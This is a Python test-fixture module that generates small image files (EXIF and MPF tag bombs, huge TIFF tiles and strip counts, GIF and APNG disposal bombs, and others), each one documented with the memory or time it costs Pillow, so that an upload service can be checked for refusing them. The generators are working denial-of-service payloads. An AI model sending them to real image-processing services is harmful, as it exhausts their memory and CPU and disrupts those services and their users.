"""Pictures that are small and cost much: files of at most 20 MB that exhaust the memory or the time of a decoder.

The costs in the docstrings are those of Pillow 12.3 without protection. All functions are deterministic.
"""

import io
import struct
import zlib
from collections.abc import Callable, Sequence
from typing import Literal

import numpy as np
from PIL import Image

SIDE = 7_071  # of the largest square picture within 50 megapixels
TAGS = 4_000  # in the directory of an EXIF bomb
RANGE = 900_000  # bytes that each of them points at
ExifFormat = Literal["PNG", "WEBP", "TIFF", "JPEG"]


def exif_bomb(kind: ExifFormat) -> bytes:
    """Thousands of EXIF or TIFF tags that point at the same 900 kB: Pillow copies the range for each.

    1 MB takes 3.4 GB, as TIFF 6.9 GB.
    """
    match kind:
        case "TIFF":
            return _tiff([*_grey_tags(16, 16, compression=1), *_bomb_tags()], bytes(RANGE))
        case "JPEG":
            exif = _exif(_bomb_tags(), bytes(RANGE))
            pieces = [exif[at : at + 65_000] for at in range(0, len(exif), 65_000)]
            segments = (b"Exif\x00\x00" + piece for piece in pieces)  # Pillow joins them to one block
            plain = _encoded(Image.new("L", (16, 16)), "JPEG")
            return plain[:2] + b"".join(_segment(0xE1, segment) for segment in segments) + plain[2:]
        case _:
            return _encoded(Image.new("L", (16, 16)), kind, exif=_exif(_bomb_tags(), bytes(RANGE)))


def exif_bomb_in_an_exif_directory() -> bytes:
    """A TIFF whose nested EXIF directory has the tags of `exif_bomb`: Pillow reads it once the pixels are decoded."""
    tags = [*_grey_tags(16, 16, compression=1), (34665, 4, 1, 0)]
    nested = 8 + 2 + 12 * len(tags) + 4 + 256  # after the pixels
    tags[-1] = (34665, 4, 1, nested)
    after = nested + 2 + 12 * TAGS + 4
    directory = struct.pack("<H", TAGS)
    directory += b"".join(struct.pack("<HHLL", 50_000 + number, 7, RANGE, after) for number in range(TAGS))
    return _tiff(tags, bytes(256) + directory + bytes(4) + bytes(RANGE))


def mpf_bomb() -> bytes:
    """A JPEG whose index of pictures (MPF, 64 kB) has 4,000 tags that point at the same 16 kB: 64 MB."""
    index = _exif([(tag, kind, 16_000, value) for tag, kind, _, value in _bomb_tags()], bytes(16_000))
    plain = _encoded(Image.new("L", (16, 16)), "JPEG")
    return plain[:2] + _segment(0xE2, b"MPF\x00" + index) + plain[2:]


def tiff_with_a_large_tile() -> bytes:
    """A TIFF of 16 x 16 pixels in one tile of 46,000 x 46,000, 142 bytes: libtiff decodes 2 GB."""
    tags = [tag for tag in _grey_tags(16, 16, compression=8) if tag[0] not in (273, 278, 279)]
    pixels = zlib.compress(b"")
    start = 8 + 2 + 12 * (len(tags) + 4) + 4
    tags += [(322, 4, 1, 46_000), (323, 4, 1, 46_000), (324, 4, 1, start), (325, 4, 1, len(pixels))]
    return _tiff(tags, pixels)


def tiff_with_many_strips() -> bytes:
    """A TIFF with 2,000,000 strips of one pixel: Pillow makes a Python object of each, 10 seconds and 650 MB."""
    count = 2_000_000
    tags = [tag for tag in _grey_tags(1, count, compression=1) if tag[0] not in (273, 278, 279)]
    start = 8 + 2 + 12 * (len(tags) + 3) + 4
    tags += [(273, 4, count, start), (278, 4, 1, 1), (279, 4, count, start + 4 * count)]
    return _tiff(tags, bytes(8 * count))


def fax_tiff() -> bytes:
    """A fax TIFF of 1 MB with damaged rows: libtiff writes a line to stderr for each, 42 MB."""
    rows = np.random.default_rng(0).integers(0, 256, 1_000_000, np.uint8).tobytes()
    tags = _grey_tags(64, 700_000, compression=3, bits=1, size=len(rows))
    return _tiff(tags, rows)


def lzma_tiff() -> bytes:
    """A TIFF whose LZMA stream asks for a dictionary of 768 MB."""
    block = bytes([2, 0, 0x21, 1, 35, 0, 0, 0])  # filter 0x21 (LZMA2), dictionary size 35 on its scale
    stream = b"\xfd7zXZ\x00\x00\x00" + struct.pack("<L", zlib.crc32(bytes(2)))
    stream += block + struct.pack("<L", zlib.crc32(block)) + b"\x01\x00\xff" + bytes(256)
    return _tiff(_grey_tags(16, 16, compression=34925, size=len(stream)), stream)


def jpeg_of_many_scans(scans: int = 4_000, side: int = 2_000) -> bytes:
    """A progressive JPEG with thousands of empty scans of ten bytes, each of which is a pass over the picture."""
    plain = _encoded(Image.new("L", (side, side), 90), "JPEG", progressive=True)
    refinement = b"\xff\xda\x00\x08\x01\x01\x00\x00\x00\x10"  # the last bit of the mean of each block, none given
    return plain[:-2] + scans * refinement + plain[-2:]


def jpeg_of_padding() -> bytes:
    """A JPEG with 19 MB of padding before its first segment: Pillow reads it byte by byte, ten seconds."""
    plain = _encoded(Image.new("L", (16, 16)), "JPEG")
    return plain[:2] + 19_000_000 * b"\xff" + plain[2:]


def run_length_bmp() -> bytes:
    """A BMP of 19.8 MB with run-length encoding, a run for each pixel: Pillow decodes it in Python, 22 seconds."""
    width, height = 4_400, 2_250
    header = struct.pack("<LllHHLLLLLL", 40, width, height, 1, 8, 1, 0, 0, 0, 256, 0)
    palette = b"".join(bytes([level, 0, 0, 0]) for level in range(256))
    runs = width * height * b"\x01\x07"
    offset = 14 + len(header) + len(palette)
    return b"BM" + struct.pack("<LLL", offset + len(runs), 0, offset) + header + palette + runs


def gif_of_comments() -> bytes:
    """A GIF with a comment of 19 MB: Pillow joins its 75,000 blocks one by one, 700 GB of copies."""
    plain = _encoded(Image.new("L", (16, 16)), "GIF")
    start = 13 + (3 << (plain[10] & 7) + 1)
    return plain[:start] + b"!\xfe" + 75_000 * (b"\xff" + bytes(255)) + b"\x00" + plain[start:]


def gif_with_a_large_disposal() -> bytes:
    """A GIF of 60 bytes whose frame of 13,300 x 13,300 pixels Pillow fills (177 MB) before its size is known."""
    screen = b"GIF89a" + struct.pack("<HHBBB", 16, 16, 0, 0, 0)
    control = b"!\xf9\x04" + bytes([2 << 2, 0, 0, 0]) + b"\x00"
    return screen + control + b"," + struct.pack("<HHHHB", 0, 0, 13_300, 13_300, 0) + b"\x02\x02\x4c\x01\x00;"


def apng_with_a_large_disposal() -> bytes:
    """An animated PNG of 13,300 x 13,300 pixels, which Pillow fills (1.3 GB) before they are counted."""
    frame = struct.pack(">LLLLLHHBB", 0, 13_300, 13_300, 0, 0, 1, 10, 1, 0)
    return _png(13_300, 13_300, 8, 6, b"", [(b"acTL", struct.pack(">LL", 1, 0)), (b"fcTL", frame)])


def png_of_one_column() -> bytes:
    """A PNG of 1 x 49,000,000 pixels, 430 kB: the coefficients to shrink it take 1.6 GB."""
    packed = zlib.compressobj(1)
    rows = bytes(2 * 1_000_000)
    pixels = b"".join([*(packed.compress(rows) for _ in range(49)), packed.flush()])
    return _png(1, 49_000_000, 8, 0, None, compressed=pixels)


def webp_of_many_pixels() -> bytes:
    """An animated WebP of 268 megapixels with frames of 16 x 16: opening it takes 2.1 GB for two canvases."""
    frames = [Image.new("RGBA", (16, 16), (shade, 2, 3, 4)) for shade in (0, 200)]
    animation = bytearray(_encoded(frames[0], "WEBP", save_all=True, append_images=frames[1:]))
    animation[24:30] = 2 * (16_382).to_bytes(3, "little")
    return bytes(animation)


def large_png(mode: Literal["RGBA", "LA", "P", "L;16", "RGB;16", "RGBA;16"]) -> bytes:
    """A PNG of 50 megapixels: 0.7 GB, and 1.3 GB for 16-bit grey."""
    depth, colours, size = {
        "RGBA": (8, 6, 4),
        "LA": (8, 4, 2),
        "P": (8, 3, 1),
        "L;16": (16, 0, 2),
        "RGB;16": (16, 2, 6),
        "RGBA;16": (16, 6, 8),
    }[mode]
    chunks = [(b"PLTE", bytes(range(6))), (b"tRNS", b"\x80\xff")] if mode == "P" else []
    packed = zlib.compressobj(1)
    row = b"\x00" + SIDE * (b"\x01" * size)
    pixels = b"".join([*(packed.compress(row) for _ in range(SIDE)), packed.flush()])
    return _png(SIDE, SIDE, depth, colours, None, chunks, pixels)


def large_float_tiff() -> bytes:
    """A TIFF of 50 megapixels of 32-bit floats in one strip: 1.5 GB."""
    return _large_tiff([(258, 3, 1, 32), (262, 3, 1, 1), (277, 3, 1, 1), (339, 3, 1, 3)], struct.pack("<f", 0.5))


def large_rgba_tiff() -> bytes:
    """A TIFF of 50 megapixels with four samples of 16 bits in one strip: 400 MB for the strip, 200 for the picture."""
    bits = 8 + 2 + 12 * 10 + 4
    tags = [(258, 3, 4, bits), (262, 3, 1, 2), (277, 3, 1, 4), (338, 3, 1, 2)]
    return _large_tiff(tags, struct.pack("<HHHH", 100, 200, 300, 60_000), struct.pack("<HHHH", 16, 16, 16, 16))


def large_cmyk_jpeg(progressive: bool) -> bytes:
    """A CMYK JPEG of 50 megapixels; a progressive one keeps 400 MB of coefficients besides the picture."""
    return _encoded(Image.new("CMYK", (SIDE, SIDE), (10, 200, 30, 0)), "JPEG", progressive=progressive)


def large_webp() -> bytes:
    """A WebP of 50 megapixels with transparency: two canvases, a copy and the picture, 1.2 GB."""
    return _encoded(Image.new("RGBA", (SIDE, SIDE), (9, 8, 7, 200)), "WEBP", lossless=True, quality=0, method=0)


LARGE: dict[str, Callable[[], bytes]] = {
    "PNG RGBA": lambda: large_png("RGBA"),
    "PNG LA": lambda: large_png("LA"),
    "PNG palette with transparency": lambda: large_png("P"),
    "PNG 16-bit grey": lambda: large_png("L;16"),
    "PNG 16-bit RGB": lambda: large_png("RGB;16"),
    "PNG 16-bit RGBA": lambda: large_png("RGBA;16"),
    "TIFF 32-bit float": large_float_tiff,
    "TIFF 16-bit RGBA": large_rgba_tiff,
    "JPEG CMYK": lambda: large_cmyk_jpeg(progressive=False),
    "JPEG CMYK progressive": lambda: large_cmyk_jpeg(progressive=True),
    "WebP RGBA": large_webp,
}
"""Pictures of 50 megapixels that are allowed and have to fit into the memory of a worker."""

ATTACKS: dict[str, Callable[[], bytes]] = {
    "EXIF bomb, PNG": lambda: exif_bomb("PNG"),
    "EXIF bomb, WebP": lambda: exif_bomb("WEBP"),
    "EXIF bomb, TIFF": lambda: exif_bomb("TIFF"),
    "EXIF bomb, TIFF, nested": exif_bomb_in_an_exif_directory,
    "EXIF bomb, JPEG": lambda: exif_bomb("JPEG"),
    "MPF bomb, JPEG": mpf_bomb,
    "TIFF, large tile": tiff_with_a_large_tile,
    "TIFF, 2 million strips": tiff_with_many_strips,
    "TIFF, fax": fax_tiff,
    "TIFF, LZMA": lzma_tiff,
    "JPEG, thousands of scans": jpeg_of_many_scans,
    "JPEG, padding": jpeg_of_padding,
    "BMP, run-length": run_length_bmp,
    "GIF, comments": gif_of_comments,
    "GIF, disposal": gif_with_a_large_disposal,
    "APNG, disposal": apng_with_a_large_disposal,
    "PNG, one column": png_of_one_column,
    "WebP, 268 megapixels": webp_of_many_pixels,
}
"""Pictures that have to be refused, or decoded for next to nothing."""

_Tag = tuple[int, int, int, int]  # the number, the type, the count, and the value or its offset


def _encoded(image: Image.Image, kind: str, **options: object) -> bytes:
    stream = io.BytesIO()
    image.save(stream, kind, **options)
    return stream.getvalue()


def _segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def _bomb_tags() -> list[_Tag]:
    """Tags of undefined content that all point at offset 0, or at what `_tiff` puts there."""
    return [(50_000 + number, 7, RANGE, 0) for number in range(TAGS)]


def _exif(tags: Sequence[_Tag], content: bytes) -> bytes:
    """Return an EXIF block whose tags point at `content`, without its prefix."""
    start = 8 + 2 + 12 * len(tags) + 4
    return _tiff([(tag, kind, count, start) for tag, kind, count, _ in tags], content)


def _grey_tags(width: int, height: int, compression: int, bits: int = 8, size: int = 256) -> list[_Tag]:
    """Tags of a grey picture in one strip, which follows the directory when there are no more tags."""
    start = 8 + 2 + 12 * 9 + 4
    return [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, bits),
        (259, 3, 1, compression),
        (262, 3, 1, 1),
        (273, 4, 1, start),
        (277, 3, 1, 1),
        (278, 4, 1, height),
        (279, 4, 1, size),
    ]


def _tiff(tags: Sequence[_Tag], content: bytes) -> bytes:
    """Return a TIFF of one directory, and its content behind."""
    directory = b"".join(struct.pack("<HHLL", *tag) for tag in sorted(tags))
    return b"II*\x00" + struct.pack("<LH", 8, len(tags)) + directory + bytes(4) + content


def _large_tiff(tags: Sequence[_Tag], pixel: bytes, values: bytes = b"") -> bytes:
    packed = zlib.compressobj(1)
    row = SIDE * pixel
    strip = b"".join([*(packed.compress(row) for _ in range(SIDE)), packed.flush()])
    common = [(256, 4, 1, SIDE), (257, 4, 1, SIDE), (259, 3, 1, 8), (278, 4, 1, SIDE), (279, 4, 1, len(strip))]
    start = 8 + 2 + 12 * (len(tags) + len(common) + 1) + 4 + len(values)
    return _tiff([*tags, *common, (273, 4, 1, start)], values + strip)


def _png(
    width: int,
    height: int,
    depth: int,
    colours: int,
    rows: bytes | None,
    chunks: Sequence[tuple[bytes, bytes]] = (),
    compressed: bytes = b"",
) -> bytes:
    """Return a PNG with `chunks` before its pixels, which are given as `rows` or already `compressed`."""
    header = struct.pack(">LLBBBBB", width, height, depth, colours, 0, 0, 0)
    pixels = compressed if rows is None else zlib.compress(rows)
    every = [(b"IHDR", header), *chunks, (b"IDAT", pixels), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body)) for kind, body in every
    )


def large_photograph() -> bytes:
    """A JPEG of 50 megapixels as a camera makes them: half a second of decoding at full scale."""
    random = np.random.default_rng(0)
    coarse = Image.fromarray(random.integers(0, 256, (70, 70, 3), np.uint8))
    return _encoded(coarse.resize((SIDE, SIDE), Image.Resampling.BICUBIC), "JPEG", quality=90)
